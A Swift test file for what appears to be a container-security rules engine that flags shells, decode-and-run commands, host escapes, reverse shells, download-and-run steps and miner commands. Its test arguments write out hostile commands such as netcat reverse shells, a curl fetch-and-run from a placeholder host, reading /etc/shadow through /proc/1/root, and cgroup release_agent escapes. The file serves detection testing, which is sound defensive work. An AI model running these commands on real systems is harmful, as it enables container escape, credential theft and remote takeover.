import JSONView
import Testing

@testable import Rules

@Suite("Shapes of commands")
struct CommandShapeTests {
    @Test(
        "A shell, or a tool that hands one out, is seen",
        arguments: [
            "/bin/sh -c while true; do sleep 30; done", "bash", "/usr/bin/env bash -lc id", "busybox ash",
            "tini -- /bin/bash /run.sh", "nsenter --target 1 --mount -- bash", "ncat -l 9999 -e /bin/bash",
            "timeout 5 sh", "python3 -c __import__('os').system('x') && sh",
        ])
    func startsShell(_ text: String) { #expect(text.withText(RunsShell.judge)) }

    @Test(
        "A program of its own is no shell",
        arguments: [
            "/bin/sleep 3600 --path.rootfs=/host/root", "/app/server --shell=/bin/bash", "node server.js", "run.sh",
            "nginx -g daemon off;", "", "/usr/local/bin/fish-exporter --port 80", "java -jar app.jar",
        ])
    func ownProgram(_ text: String) { #expect(!text.withText(RunsShell.judge)) }

    @Test(
        "What is decoded and run is seen",
        arguments: [
            "sh -c echo c2xlZXAgMQ== | base64 -d | sh", "echo aWQK|base64 --decode|/bin/bash -",
            "eval $(echo aWQK | base64 -d)",
            "bash -c \"$(base64 -d <<< aWQK)\"", "bash <(echo aWQK | base64 -D)", "echo 6964 | xxd -r -p | ash",
            "python3 -c import base64;exec(base64.b64decode('cHJpbnQoMSk='))", "printf '\\x69\\x64\\x0a\\x0a' | sh",
            "perl -MMIME::Base64 -e eval(decode_base64('cHJpbnQgMQ=='))", "zcat /x.gz | sh",
            "openssl enc -d -aes-256-cbc -k x -in /p | bash", "base64 -d /p > /tmp/a; chmod +x /tmp/a; /tmp/a",
            "echo aWQK | busybox base64 -d | busybox sh", "sh -lc 'echo aWQK | base64 -di | sh'",
            "php -r eval(base64_decode('ZWNobyAxOw=='));",
        ])
    func decodesAndRuns(_ text: String) { #expect(text.withText(DecodeAndRun.judge)) }

    @Test(
        "What is decoded and only kept, or encoded, is not",
        arguments: [
            "echo hello | base64", "base64 -d /secret/key.b64 > /run/key", "gunzip -c dump.gz | psql",
            "tar xzf app.tgz",
            "echo $CERT | base64 -d | openssl x509 -noout -text", "zcat log.gz | grep error", "sh -c exec /server",
            "python app.py --key $(echo eHl6 | base64 -d)", "printf 'ready\\n' | nc localhost 80",
        ])
    func decodesOnly(_ text: String) { #expect(!text.withText(DecodeAndRun.judge)) }

    @Test(
        "A step into the host is seen",
        arguments: [
            "nsenter --target 1 --mount --uts --ipc --net --pid -- bash", "nsenter -t 1 -m -u -i -n -p sh",
            "nsenter -mt 1 sh", "sh -c nsenter --mount=/proc/1/ns/mnt -- /usr/bin/systemctl", "chroot /host /bin/bash",
            "sh -c cd /; chroot /mnt/root sh", "cat /proc/1/root/etc/shadow", "mount /dev/sda1 /mnt",
            "sh -c echo '|/x' > /proc/sys/kernel/core_pattern", "sh -c echo /cmd > /tmp/cgrp/release_agent",
            "debugfs -w /dev/nvme0n1p1",
            "/usr/local/bin/ncat --ssl h 443 -e /bin/nsenter --target 1 --mount -- /bin/bash",
        ])
    func entersHost(_ text: String) { #expect(text.withText(EntersHost.judge)) }

    @Test(
        "A container's own roots and mounts are not the host",
        arguments: [
            "chroot /srv/jail /bin/app", "nsenter -t 4242 -n ip addr", "mount -t tmpfs none /tmp/x", "exec /server",
            "cat /proc/1/status", "mount | grep data",
        ])
    func staysInside(_ text: String) { #expect(!text.withText(EntersHost.judge)) }

    @Test(
        "A shell's `--` does not hide its command",
        arguments: ["/bin/sh -c -- ncat --ssl $HOST $PORT -e /bin/bash;", "sh -c -- nc 198.51.100.7 443 -e sh"])
    func optionsEnd(_ text: String) { #expect(text.withText(ReverseShell.judge)) }

    @Test(
        "A file saved in memory, and every scheme of a pool, are seen",
        arguments: [
            "sh -c curl -s http://x.invalid/a > /dev/shm/a && sh /dev/shm/a",
            "lwp-download http://x.invalid/a /tmp/a; sh /tmp/a",
        ])
    func savedAnywhere(_ text: String) { #expect(text.withText(DownloadAndRun.judge)) }

    @Test(
        "A pool with an account and a worker's option is a miner's",
        arguments: [
            "ethminer -P stratum1+tcp://0x1111111111111111111111111111111111111111.w@eth.invalid:4444",
            "/app/kworker -o pool.invalid:4444 -u me -p x",
        ])
    func pools(_ text: String) { #expect(text.withText(MinerShape.judge)) }

    @Test(
        "Other programs' -o and -u are no pool",
        arguments: [
            "curl -o out.tar -u me:secret https://x.invalid/a", "ssh -o Port=22 -p 22 host.invalid",
            "sort -u -o out.txt in.txt",
        ])
    func noPools(_ text: String) { #expect(!text.withText(MinerShape.judge)) }
}

@Suite("Payloads and sockets")
struct PayloadAndSocketTests {
    private static let piece = "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHBheWxvYWQ="

    @Test("A payload of padded pieces one behind the other is as long as all of them")
    func pieces() {
        #expect((Self.piece + Self.piece).withText(Payloads.looksEncoded))
        #expect(!Self.piece.withText(Payloads.looksEncoded))
        #expect(!(Self.piece + ", " + Self.piece).withText(Payloads.looksEncoded))
    }

    @Test(
        "A folder named after a socket is none",
        arguments: ["/srv/docker.sock.d", "/run/docker.socks/x", "/srv/docker"])
    func noSocket(_ path: String) { #expect(!path.withText(HostPath.isRuntimeSocket)) }
}
